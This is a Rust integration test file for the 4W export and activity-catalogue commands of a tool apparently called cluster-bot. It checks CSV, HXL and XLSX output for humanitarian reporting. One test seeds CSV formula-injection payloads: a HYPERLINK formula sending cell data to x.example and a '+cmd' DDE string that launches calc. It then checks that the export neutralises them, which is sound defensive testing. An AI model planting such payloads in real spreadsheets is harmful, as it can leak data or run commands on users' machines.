//! 4W: `cluster-bot export 4w` — CSV with BOM, header, HXL row, P-codes and names,
//! totals, accents; XLSX; one-line errors; the activity catalogue from the command line.

use chrono::NaiveDate;
use cluster_bot::domain::fourw::{ActivityStatus, Line, Reached, ReportingMonth};
use cluster_bot::storage::reports::{self, NewSubmission};
use cluster_bot::storage::{Db, people, reference};
use std::path::Path;
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_cluster-bot");

fn cli(db: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .env("DATABASE_URL", db)
        .env_remove("TELOXIDE_TOKEN")
        .env("RUST_LOG", "warn")
        .output()
        .unwrap()
}

fn d(s: &str) -> NaiveDate {
    NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap()
}

fn line(activity: &str, sector: &str, region: &str, cercle: &str, r: [u32; 5], donor: Option<&str>) -> Line {
    Line {
        sector: sector.into(),
        activity: activity.into(),
        region: region.into(),
        cercle: cercle.into(),
        status: ActivityStatus::Ongoing,
        start: d("2026-10-01"),
        end: d("2026-10-31"),
        reached: Reached { girls: r[0], boys: r[1], women: r[2], men: r[3], disabled: r[4], ..Default::default() },
        partner: Some("AMSS".into()),
        donor: donor.map(Into::into),
        remarks: Some("Séances à Ténenkou, « déplacés »".into()),
        ..Default::default()
    }
}

async fn seed(path: &Path) {
    let db = Db::connect(&format!("sqlite://{}", path.display())).await.unwrap();
    let now = chrono::DateTime::parse_from_rfc3339("2026-11-03T10:00:00Z").unwrap().to_utc();
    let person = people::get_or_create(
        &db,
        77,
        &cluster_bot::domain::DisplayName::parse("Awa").unwrap(),
        cluster_bot::domain::Language::Fr,
        now,
    )
    .await
    .unwrap();
    let nrc = reference::organisation_by_acronym(&db, "NRC").await.unwrap().unwrap();
    let drc = reference::organisation_by_acronym(&db, "DRC/DDG").await.unwrap().unwrap();
    let mopti = reference::mechanism_by_code(&db, "CR-MOPTI").await.unwrap().unwrap();
    let cpn = reference::mechanism_by_code(&db, "CPN").await.unwrap().unwrap();
    let oct = ReportingMonth::parse("2026-10").unwrap();
    let nrc_lines = [
        line("PRO-MON", "PRO", "ML05", "ML0507", [10, 12, 30, 25, 4], Some("ECHO")),
        line("GBV-DK", "PRO-GBV", "ML05", "ML0503", [5, 0, 40, 0, 2], None),
    ];
    let drc_lines = [line("MIN-MRE", "PRO-MIN", "ML07", "ML0703", [100, 90, 0, 0, 0], Some("BHA"))];
    for (org, mech, lines) in [(nrc.id, mopti.id, &nrc_lines[..]), (drc.id, cpn.id, &drc_lines[..])] {
        reports::submit(
            &db,
            NewSubmission {
                organisation_id: org,
                mechanism_id: mech,
                month: oct,
                lines,
                no_activity: false,
                late: org == drc.id,
                person_id: person.id,
                now,
                boundaries: "2021",
            },
        )
        .await
        .unwrap();
    }
    db.close().await;
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect()
}

#[tokio::test]
async fn csv_export_has_bom_header_hxl_pcodes_names_totals_and_accents() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("x.db");
    seed(&db).await;
    let out_file = dir.path().join("4w.csv");
    let out =
        cli(&db, &["export", "4w", "--month", "2026-10", "--format", "csv", "--output", out_file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let bytes = std::fs::read(&out_file).unwrap();
    assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF], "UTF-8 byte-order mark for Excel");
    let rows = csv_rows(&bytes);
    assert_eq!(rows.len(), 2 + 3 + 1, "header, HXL, three lines, totals");
    assert_eq!(rows[0][0], "Organisation");
    assert_eq!(rows[0][1], "Partenaire de mise en œuvre");
    assert_eq!(rows[1].len(), rows[0].len(), "one hashtag per column");
    assert_eq!(&rows[1][..3], ["#org+prog", "#org+impl", "#org+funder"], "organisations tagged by their role");
    for tag in [
        "#sector+cluster+code",
        "#status+code",
        "#reached+f+children+age0_17",
        "#reached+m+elderly+age60plus",
        "#targeted+f+adults+age18_59",
        "#group+code",
        "#modality+code",
        "#adm3+code",
        "#meta+boundaries",
        "#meta+approved",
    ] {
        assert!(rows[1].iter().any(|t| t == tag), "{tag} in {:?}", rows[1]);
    }
    let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
    // Mechanisms in their order (CPN first), then organisations.
    let drc = &rows[2];
    assert_eq!(drc[col("#org+prog")], "DRC/DDG");
    assert_eq!(drc[col("#adm1+name")], "Gao");
    assert_eq!(drc[col("#adm2+code")], "ML0703");
    assert_eq!(drc[col("#activity+name")], "Éducation aux risques des mines");
    assert_eq!(drc[col("#meta+boundaries")], "2021", "the boundary version of the line");
    assert_eq!(drc[col("#meta+late")], "oui");
    let nrc = &rows[3];
    assert_eq!(
        [&nrc[col("#adm1+name")], &nrc[col("#adm1+code")], &nrc[col("#adm2+name")], &nrc[col("#adm2+code")]],
        ["Mopti", "ML05", "Ténenkou", "ML0507"]
    );
    assert_eq!(nrc[col("#status+name")], "en cours");
    assert_eq!(nrc[col("#status+code")], "active", "HXL's status vocabulary");
    assert_eq!(nrc[col("#reached+total")], "77");
    assert_eq!(nrc[col("#org+funder")], "ECHO");
    assert_eq!(nrc[col("#org+impl")], "AMSS");
    assert_eq!(nrc[col("#date+start")], "2026-10-01");
    assert_eq!(nrc[col("#date+reported")], "2026-11-03");
    assert_eq!(nrc[col("#description+remarks")], "Séances à Ténenkou, « déplacés »");
    assert_eq!(rows[4][col("#adm2+name")], "Djenné");
    let total = &rows[5];
    assert_eq!(total[0], "TOTAL");
    assert_eq!(
        [
            &total[col("#reached+f+children+age0_17")],
            &total[col("#reached+m+children+age0_17")],
            &total[col("#reached+f+adults+age18_59")],
            &total[col("#reached+m+adults+age18_59")],
            &total[col("#reached+total")],
            &total[col("#reached+disabled")]
        ],
        ["115", "102", "70", "25", "312", "6"]
    );

    // One mechanism, in English.
    let out_file = dir.path().join("mopti.csv");
    let out = cli(
        &db,
        &[
            "export",
            "4w",
            "--month",
            "2026-10",
            "--format",
            "csv",
            "--output",
            out_file.to_str().unwrap(),
            "--mechanism",
            "CR-MOPTI",
            "--lang",
            "en",
        ],
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = csv_rows(&std::fs::read(&out_file).unwrap());
    assert_eq!(rows.len(), 2 + 2 + 1);
    assert_eq!(rows[0][1], "Implementing partner");
    let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
    assert_eq!(rows[2][col("#activity+name")], "Protection monitoring");
    assert_eq!(rows[2][col("#status+name")], "ongoing");
    assert_eq!(rows[0][col("#reached+f+elderly+age60plus")], "Elderly women (60+) reached", "cut-offs stated");
    assert_eq!(rows[4][col("#reached+total")], "122", "total of the Mopti lines only");
}

#[tokio::test]
async fn xlsx_export_is_a_workbook() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("x.db");
    seed(&db).await;
    let out_file = dir.path().join("4w.xlsx");
    let out =
        cli(&db, &["export", "4w", "--month", "2026-10", "--format", "xlsx", "--output", out_file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let bytes = std::fs::read(&out_file).unwrap();
    assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip archive");
    assert!(String::from_utf8_lossy(&out.stderr).contains("3 line(s) of 2026-10"));
}

#[test]
fn export_errors_are_one_line_and_non_zero() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("e.db");
    let out = dir.path().join("o.csv");
    let o = out.to_str().unwrap();
    for (args, reason) in [
        (vec!["export", "4w", "--month", "2026-13", "--format", "csv", "--output", o], "YYYY-MM"),
        (vec!["export", "4w", "--month", "nov", "--format", "csv", "--output", o], "YYYY-MM"),
        (vec!["export", "4w", "--month", "2026-11", "--format", "pdf", "--output", o], "csv or xlsx"),
        (
            vec!["export", "4w", "--month", "2026-11", "--format", "csv", "--output", o, "--mechanism", "XX"],
            "unknown mechanism",
        ),
    ] {
        let out = cli(&db, &args);
        assert!(!out.status.success(), "{args:?} succeeded");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(err.trim_end().lines().count(), 1, "{args:?}: {err}");
        assert!(err.contains(reason), "{args:?}: {err}");
    }
    assert!(!out.exists(), "nothing written on error");
}

#[test]
fn coordinators_extend_the_activity_catalogue_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("a.db");
    let list = cli(&db, &["activity", "list", "--sector", "PRO-MIN"]);
    assert!(list.status.success());
    let text = String::from_utf8_lossy(&list.stdout).to_string();
    assert!(text.contains("MIN-MRE\tPRO-MIN\tÉducation aux risques des mines\tMine risk education"), "{text}");
    assert!(!text.contains("PRO-MON"));
    let add = cli(
        &db,
        &[
            "activity",
            "add",
            "--code",
            "pro-cash",
            "--sector",
            "PRO",
            "--fr",
            "Cash pour la protection",
            "--en",
            "Cash for protection",
        ],
    );
    assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
    let text = String::from_utf8_lossy(&cli(&db, &["activity", "list", "--sector", "PRO"]).stdout).to_string();
    assert!(text.contains("PRO-CASH\tPRO\tCash pour la protection\tCash for protection"), "{text}");
    let again = cli(&db, &["activity", "add", "--code", "PRO-CASH", "--sector", "PRO", "--fr", "x", "--en", "y"]);
    assert!(!again.status.success() && String::from_utf8_lossy(&again.stderr).contains("exists already"));
    let bad = cli(&db, &["activity", "add", "--code", "X1", "--sector", "WASH", "--fr", "x", "--en", "y"]);
    assert!(!bad.status.success() && String::from_utf8_lossy(&bad.stderr).contains("unknown sector"));
    // Modalities are extended the same way, each in its own catalogue.
    let add = cli(&db, &["modality", "add", "--code", "pro-bon", "--sector", "PRO", "--fr", "Espèces", "--en", "Cash"]);
    assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
    let text = String::from_utf8_lossy(&cli(&db, &["modality", "list", "--sector", "PRO"]).stdout).to_string();
    assert!(text.contains("PRO-BON\tPRO\tEspèces\tCash"), "{text}");
    let again = cli(&db, &["modality", "add", "--code", "PRO-BON", "--sector", "PRO", "--fr", "x", "--en", "y"]);
    assert!(!again.status.success() && String::from_utf8_lossy(&again.stderr).contains("a modality with the code"));
    let bad = cli(&db, &["modality", "add", "--code", "X!", "--sector", "PRO", "--fr", "x", "--en", "y"]);
    assert!(!bad.status.success() && String::from_utf8_lossy(&bad.stderr).contains("--code must be"));
}

#[tokio::test]
async fn csv_cells_that_would_be_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("f.db");
    let db = Db::connect(&format!("sqlite://{}", path.display())).await.unwrap();
    let now = chrono::DateTime::parse_from_rfc3339("2026-11-03T10:00:00Z").unwrap().to_utc();
    let name = cluster_bot::domain::DisplayName::parse("Awa").unwrap();
    let person = people::get_or_create(&db, 78, &name, cluster_bot::domain::Language::Fr, now).await.unwrap();
    let nrc = reference::organisation_by_acronym(&db, "NRC").await.unwrap().unwrap();
    let cpn = reference::mechanism_by_code(&db, "CPN").await.unwrap().unwrap();
    let hostile = [
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+cmd|' /C calc'!A0", "@SUM(1+1)"),
        ("-2+3", "\tTAB", "\rCR"),
    ];
    let lines: Vec<Line> = hostile
        .iter()
        .map(|(remarks, partner, donor)| {
            let mut l = line("PRO-MON", "PRO", "ML05", "ML0507", [1, 1, 1, 1, 0], Some(donor));
            l.remarks = Some((*remarks).into());
            l.partner = Some((*partner).into());
            l
        })
        .collect();
    let month = ReportingMonth::parse("2026-10").unwrap();
    let submission = NewSubmission {
        organisation_id: nrc.id,
        mechanism_id: cpn.id,
        month,
        lines: &lines,
        no_activity: false,
        late: false,
        person_id: person.id,
        now,
        boundaries: "2021",
    };
    reports::submit(&db, submission).await.unwrap();
    db.close().await;
    let out_file = dir.path().join("f.csv");
    let out =
        cli(&path, &["export", "4w", "--month", "2026-10", "--format", "csv", "--output", out_file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = csv_rows(&std::fs::read(&out_file).unwrap());
    let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
    let (first, second) = (&rows[2], &rows[3]);
    assert_eq!(first[col("#description+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
    assert_eq!(first[col("#org+impl")], "'+cmd|' /C calc'!A0");
    assert_eq!(first[col("#org+funder")], "'@SUM(1+1)");
    assert_eq!(second[col("#description+remarks")], "'-2+3");
    assert_eq!(second[col("#org+impl")], "'\tTAB");
    assert_eq!(second[col("#org+funder")], "'\rCR");
    // No cell of the file starts a formula.
    for row in &rows[2..] {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
}

/// The export reads the month in chunks packed by SQLite: every line comes out once, in the
/// matrix's order, with the same values as the row-by-row query, across chunk boundaries.
#[tokio::test]
async fn the_chunked_read_gives_every_line_once_in_order_with_its_values() {
    use cluster_bot::storage::matrix;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.db");
    let db = Db::connect(&format!("sqlite://{}", path.display())).await.unwrap();
    let now = chrono::DateTime::parse_from_rfc3339("2026-11-03T10:00:00Z").unwrap().to_utc();
    let name = cluster_bot::domain::DisplayName::parse("Awa").unwrap();
    let person = people::get_or_create(&db, 79, &name, cluster_bot::domain::Language::Fr, now).await.unwrap();
    let month = ReportingMonth::parse("2026-10").unwrap();
    let mechs = ["CPN", "CR-MOPTI", "CR-GAO"];
    let orgs = ["NRC", "DRC/DDG", "IRC", "UNICEF"];
    let mut expected_lines = 0;
    for (i, org) in orgs.iter().enumerate() {
        for (j, mech) in mechs.iter().enumerate() {
            let o = reference::organisation_by_acronym(&db, org).await.unwrap().unwrap();
            let m = reference::mechanism_by_code(&db, mech).await.unwrap().unwrap();
            let count = 90 + 7 * (i * 3 + j) as u32;
            let lines: Vec<Line> = (0..count)
                .map(|k| {
                    let mut l = line("PRO-MON", "PRO", "ML05", "ML0507", [k, k + 1, 2, 3, k % 4], Some("ECHO"));
                    l.remarks = (k % 3 == 0).then(|| format!("ligne {k} « \"guillemets\" »\n\\ {org}"));
                    l.partner = None;
                    l
                })
                .collect();
            expected_lines += lines.len();
            let late = i == 1;
            let new = NewSubmission {
                organisation_id: o.id,
                mechanism_id: m.id,
                month,
                lines: &lines,
                no_activity: false,
                late,
                person_id: person.id,
                now,
                boundaries: "2021",
            };
            reports::submit(&db, new).await.unwrap();
        }
    }
    let all = matrix::matrix(&db, month, None).await.unwrap();
    assert_eq!(all.len(), expected_lines);
    assert!(all.len() > 1_500, "several chunks");
    let mut streamed = Vec::new();
    let n = matrix::for_each(&db, month, None, |r| {
        streamed.push(r);
        Ok(())
    })
    .await
    .unwrap();
    assert_eq!(n, all.len());
    assert_eq!(streamed, all, "same lines, same order, same values");
    assert!(streamed.iter().any(|r| r.late) && streamed.iter().any(|r| !r.late));
    // One mechanism only.
    let mopti = reference::mechanism_by_code(&db, "CR-MOPTI").await.unwrap().unwrap();
    let mut only = Vec::new();
    matrix::for_each(&db, month, Some(mopti.id), |r| {
        only.push(r);
        Ok(())
    })
    .await
    .unwrap();
    assert_eq!(only, matrix::matrix(&db, month, Some(mopti.id)).await.unwrap());
}
